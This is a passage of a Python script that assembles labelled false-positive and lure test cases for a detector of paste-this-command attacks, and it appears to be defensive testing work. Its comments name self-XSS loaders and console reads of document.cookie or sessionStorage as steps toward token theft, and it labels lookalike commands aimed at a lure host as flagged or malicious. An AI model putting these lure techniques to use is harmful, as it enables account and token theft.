    # a remote script loaded into the page from a CDN (jQuery, lodash): self-XSS's loader
    "fp15-ok-console-snippet-68": "remote script in the console",
    "fp15-ok-console-snippet-69": "remote script in the console",
    "fp15-ok-console-snippet-70": "remote script, no page",
    # the site's storage or cookies shown in the console: token theft's first step
    "fp15-ok-console-snippet-75": "sessionStorage in the console",
    "fp15-ok-console-snippet-76": "document.cookie in the console",
    # an address with a space typed into Explorer's bar: read as a program and a word
    "fp15-ok-explorer-bar-everyday-25": "address with a space",
    # a write-up quoting a lure's paste instructions with its defanged command: the instructions
    # are a lure's words wherever they stand
    "fp15-ok-writeup-quoting-lure-35": "write-up quoting paste instructions",
}

# Texts word for word in the dev corpus (tests/app/detection/test_labelled_cases.py keeps the
# project's cases apart from it): common one-liners written here too, left out of the file.
IN_DEV_CORPUS = frozenset(
    {
        "fp15-ok-explorer-bar-everyday-04",
        "fp15-ok-other-page-installer-15",
        "fp15-ok-other-page-installer-30",
        "fp15-ok-other-page-installer-41",
        "fp15-ok-other-page-installer-42",
        "fp15-ok-other-page-installer-45",
        "fp15-ok-other-readme-installer-03",
        "fp15-ok-other-readme-installer-05",
        "fp15-ok-other-readme-installer-06",
        "fp15-ok-other-readme-installer-07",
        "fp15-ok-other-readme-installer-08",
        "fp15-ok-other-readme-installer-09",
        "fp15-ok-other-readme-installer-100",
        "fp15-ok-other-readme-installer-101",
        "fp15-ok-other-readme-installer-11",
        "fp15-ok-other-readme-installer-12",
        "fp15-ok-other-readme-installer-16",
        "fp15-ok-other-readme-installer-18",
        "fp15-ok-other-readme-installer-19",
        "fp15-ok-other-readme-installer-20",
        "fp15-ok-other-readme-installer-21",
        "fp15-ok-other-readme-installer-22",
        "fp15-ok-other-readme-installer-23",
        "fp15-ok-other-readme-installer-25",
        "fp15-ok-other-readme-installer-26",
        "fp15-ok-other-readme-installer-27",
        "fp15-ok-other-readme-installer-29",
        "fp15-ok-other-readme-installer-31",
        "fp15-ok-other-readme-installer-32",
        "fp15-ok-other-readme-installer-34",
        "fp15-ok-other-readme-installer-35",
        "fp15-ok-other-readme-installer-41",
        "fp15-ok-other-readme-installer-49",
        "fp15-ok-other-readme-installer-50",
        "fp15-ok-other-readme-installer-52",
        "fp15-ok-other-readme-installer-57",
        "fp15-ok-other-readme-installer-73",
        "fp15-ok-other-readme-installer-74",
        "fp15-ok-other-readme-installer-82",
        "fp15-ok-other-readme-installer-83",
        "fp15-ok-other-readme-installer-84",
        "fp15-ok-other-readme-installer-85",
        "fp15-ok-other-readme-installer-86",
        "fp15-ok-other-readme-installer-87",
        "fp15-ok-other-readme-installer-88",
        "fp15-ok-other-readme-installer-89",
        "fp15-ok-other-readme-installer-90",
        "fp15-ok-other-readme-installer-91",
        "fp15-ok-other-readme-installer-98",
        "fp15-ok-other-readme-installer-99",
        "fp15-ok-run-box-everyday-07",
        "fp15-ok-run-box-everyday-124",
        "fp15-ok-run-box-everyday-23",
        "fp15-ok-run-box-everyday-26",
        "fp15-ok-run-box-everyday-28",
        "fp15-ok-run-box-everyday-31",
        "fp15-ok-run-box-everyday-33",
        "fp15-ok-run-box-everyday-37",
        "fp15-ok-run-box-everyday-54",
        "fp15-ok-run-box-everyday-80",
        "fp15-ok-vendor-admin-hard-04",
        "fp15-ok-vendor-admin-hard-28",
        "fp15-ok-vendor-admin-macos-23",
        "fp15-ok-vendor-admin-macos-33",
        "fp15-ok-vendor-admin-windows-100",
        "fp15-ok-vendor-admin-windows-140",
        "fp15-ok-vendor-admin-windows-141",
        "fp15-ok-vendor-admin-windows-34",
        "fp15-ok-vendor-admin-windows-35",
        "fp15-ok-vendor-admin-windows-55",
        "fp15-ok-vendor-admin-windows-56",
        "fp15-ok-vendor-admin-windows-57",
        "fp15-ok-vendor-admin-windows-61",
        "fp15-ok-vendor-admin-windows-62",
        "fp15-ok-vendor-admin-windows-89",
    }
)


def quoted_installers(book: Book) -> None:
    for i, (page, text) in enumerate(QUOTED_INSTALLERS):
        book.add("other-readme-installer", text, "not_flagged", "any", TERMINAL, page)
        if i % 5 == 0:
            book.add("other-readme-installer", text, "not_flagged", "any", UNKNOWN, page)
    for text in BARE_INSTALLERS:
        book.add("other-readme-installer", text, "not_flagged", "any", TERMINAL, None)
        book.add("other-readme-installer", text, "not_flagged", "any", UNKNOWN, "slack")


def other_page_installers(book: Book) -> None:
    for i, (page, text) in enumerate(OTHER_PAGE_INSTALLERS):
        book.add("other-page-installer", text, "not_flagged", "any", TERMINAL, page)
        if i % 4 == 0:
            book.add("other-page-installer", text, "not_flagged", "any", TERMINAL, None)


def hard_admin(book: Book) -> None:
    for i, (page, text, platform) in enumerate(HARD_ADMIN):
        book.add("vendor-admin-hard", text, "not_flagged", platform, TERMINAL, page)
        if i % 3 == 0:
            book.add("vendor-admin-hard", text, "not_flagged", platform, UNKNOWN, None)


def admin(book: Book) -> None:
    for i, (page, text) in enumerate(PS_ADMIN):
        book.add("vendor-admin-windows", text, "not_flagged", "windows", TERMINAL, page)
        if i % 4 == 0:
            book.add("vendor-admin-windows", text, "not_flagged", "windows", UNKNOWN, None)
    for i, (page, text) in enumerate(LINUX_ADMIN):
        book.add("vendor-admin-linux", text, "not_flagged", "linux", TERMINAL, page)
        if i % 4 == 0:
            book.add("vendor-admin-linux", text, "not_flagged", "linux", UNKNOWN, None)
    for page, text in MAC_ADMIN:
        book.add("vendor-admin-macos", text, "not_flagged", "macos", TERMINAL, page)


def console(book: Book) -> None:
    for i, (page, text) in enumerate(CONSOLE_SNIPPETS):
        book.add("console-snippet", text, "not_flagged", "any", CONSOLE, page)
        if i % 3 == 0:
            book.add("console-snippet", text, "not_flagged", "any", UNKNOWN, None)


def writeups(book: Book) -> None:
    for i, (page, text) in enumerate(WRITEUPS):
        book.add("writeup-quoting-lure", text, "not_flagged", "any", (UNKNOWN, OTHER)[i % 2], page)
        if i % 3 == 0:
            book.add("writeup-quoting-lure", text, "not_flagged", "any", UNKNOWN, None)


def mails(book: Book) -> None:
    for i, (app, text) in enumerate(MAILS):
        book.add("support-mail-phone", text, "not_flagged", "any", (OTHER, UNKNOWN)[i % 2], app)


def oauth(book: Book) -> None:
    for i, (page, text) in enumerate(OAUTH):
        book.add("oauth-docs", text, "not_flagged", "any", (OTHER, UNKNOWN, TERMINAL)[i % 3], page)
        if i % 2 == 0:
            book.add("oauth-docs", text, "not_flagged", "any", UNKNOWN, None)


def runbox(book: Book) -> None:
    sources = [None, IT_WIKI, "outlook", None]
    for i, text in enumerate(RUNBOX):
        book.add("run-box-everyday", text, "not_flagged", "windows", RUN, sources[i % 4])
    for i, text in enumerate(HARD_RUNBOX):
        book.add("run-box-everyday", text, "not_flagged", "windows", RUN, sources[(i + 1) % 4])
    for i, text in enumerate(EXPLORER):
        book.add("explorer-bar-everyday", text, "not_flagged", "windows", BAR, sources[i % 4])


def snippets(book: Book) -> None:
    for i, (page, text) in enumerate(SNIPPETS):
        book.add(
            "config-log-snippet",
            text,
            "not_flagged",
            "any",
            (UNKNOWN, OTHER, TERMINAL)[i % 3],
            page,
        )
        if i % 2 == 0:
            book.add("config-log-snippet", text, "not_flagged", "any", UNKNOWN, None)


def saved_to_temp(book: Book) -> None:
    for i, (page, text) in enumerate(SAVED_TO_TEMP):
        book.add("download-saved-to-temp", text, "not_flagged", "windows", TERMINAL, page)
        book.add(
            "download-saved-to-temp",
            text,
            "not_flagged",
            "windows",
            (UNKNOWN, TERMINAL)[i % 2],
            None,
        )
    for i, text in enumerate(SAVED_AND_STARTED):
        text = text.replace("{h}", LURE_HOST)
        book.add(
            "download-saved-to-temp",
            text,
            "flagged",
            "windows",
            TERMINAL,
            (CHECK_PAGE, None)[i % 2],
        )
        book.add("download-saved-to-temp", text, "malicious", "windows", RUN, CHECK_PAGE)
        book.add("download-saved-to-temp", text, "flagged", "windows", UNKNOWN, None)


def network_checks(book: Book) -> None:
    sources = [None, CHECK_PAGE, "outlook", "https://intranet.harrowfield.example/it/kb/network"]
    for i, text in enumerate(NETWORK_CHECKS):
        book.add("run-box-network-check", text, "not_flagged", "windows", RUN, sources[i % 4])
        book.add(
            "run-box-network-check", text, "not_flagged", "windows", BAR if i % 3 else RUN, None
        )
    for text in SHUTDOWN_DASHES:
        book.add("run-box-network-check", text, "not_flagged", "windows", RUN, None)
        # written by a page, the same line is a command in the Run box (issue 9)
        book.add("run-box-network-check", text, "flagged", "windows", RUN, CHECK_PAGE)
    for text in NETWORK_CHECK_LOOKALIKES:
        text = text.replace("{h}", LURE_HOST)
        book.add("run-box-network-check", text, "flagged", "windows", RUN, None)
        book.add("run-box-network-check", text, "malicious", "windows", RUN, CHECK_PAGE)


def defanged_prose(book: Book) -> None:
    pages = ["https://www.example.com/blog/2026/clickfix-campaign-analysis",
             "https://www.microsoft.com/en-us/security/blog/2025/08/21/think-before-you-clickfix/",
             "https://unit42.paloaltonetworks.com/preventing-clickfix-attack-vector/", None]  # fmt: skip
    for i, text in enumerate(DEFANGED_PROSE):
        book.add("defanged-prose-write-up", text, "not_flagged", "any", UNKNOWN, pages[i % 4])
        book.add("defanged-prose-write-up", text, "not_flagged", "any", OTHER, pages[(i + 1) % 4])
    for i, text in enumerate(DEFANGED_PROSE_LOOKALIKES):
        book.add("defanged-prose-write-up", text, "flagged", "any", UNKNOWN, pages[i % 3])
        book.add("defanged-prose-write-up", text, "flagged", "any", RUN, pages[i % 3])


def second_round(book: Book) -> None:
    for i, (page, text) in enumerate(WIN2):
        book.add("vendor-admin-windows", text, "not_flagged", "windows", TERMINAL, page)
        if i % 4 == 1:
            book.add("vendor-admin-windows", text, "not_flagged", "windows", UNKNOWN, None)
    for i, (page, text) in enumerate(NIX2):
        book.add("vendor-admin-linux", text, "not_flagged", "linux", TERMINAL, page)
        if i % 4 == 1:
            book.add("vendor-admin-linux", text, "not_flagged", "linux", UNKNOWN, None)
    for page, text in MAC2:
        book.add("vendor-admin-macos", text, "not_flagged", "macos", TERMINAL, page)
    for i, (page, text) in enumerate(CONSOLE2):
        book.add("console-snippet", text, "not_flagged", "any", CONSOLE, page)
        if i % 3 == 1:
            book.add("console-snippet", text, "not_flagged", "any", UNKNOWN, None)
    for text in RUN2:
        book.add("run-box-everyday", text, "not_flagged", "windows", RUN, None)
    for text in BAR2:
        book.add("explorer-bar-everyday", text, "not_flagged", "windows", BAR, None)
    for i, (page, text) in enumerate(WRITE2):
        book.add("writeup-quoting-lure", text, "not_flagged", "any", (UNKNOWN, OTHER)[i % 2], page)
    for i, (app, text) in enumerate(MAIL2):
        book.add("support-mail-phone", text, "not_flagged", "any", (OTHER, UNKNOWN)[i % 2], app)


def system_paths(book: Book) -> None:
    sources = [None, "https://support.microsoft.com/en-us/windows/", "outlook", CHECK_PAGE]
    for i, text in enumerate(SYSTEM_PATHS):
        book.add("run-box-system-path", text, "not_flagged", "windows", RUN, sources[i % 4])
        book.add("run-box-system-path", text, "not_flagged", "windows", BAR, sources[(i + 1) % 4])
    for text in SYSTEM_PATH_LOOKALIKES:
        text = text.replace("{h}", LURE_HOST)
        book.add("run-box-system-path", text, "flagged", "windows", RUN, None)
        book.add("run-box-system-path", text, "malicious", "windows", RUN, CHECK_PAGE)
    for text in LOCAL_COPIES:
        book.add("run-box-system-path", text, "malicious", "windows", RUN, CHECK_PAGE)
        book.add("run-box-system-path", text, "flagged", "windows", RUN, "outlook")


def build() -> list[dict[str, str]]:
    book = Book("fp15")
    quoted_installers(book)
    other_page_installers(book)
    hard_admin(book)
    admin(book)
    console(book)
    writeups(book)
    mails(book)
    oauth(book)
    runbox(book)
    snippets(book)
    saved_to_temp(book)
    network_checks(book)
    defanged_prose(book)
    second_round(book)
    system_paths(book)
    return [c for c in book.cases if c["id"] not in LEFT and c["id"] not in IN_DEV_CORPUS]


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
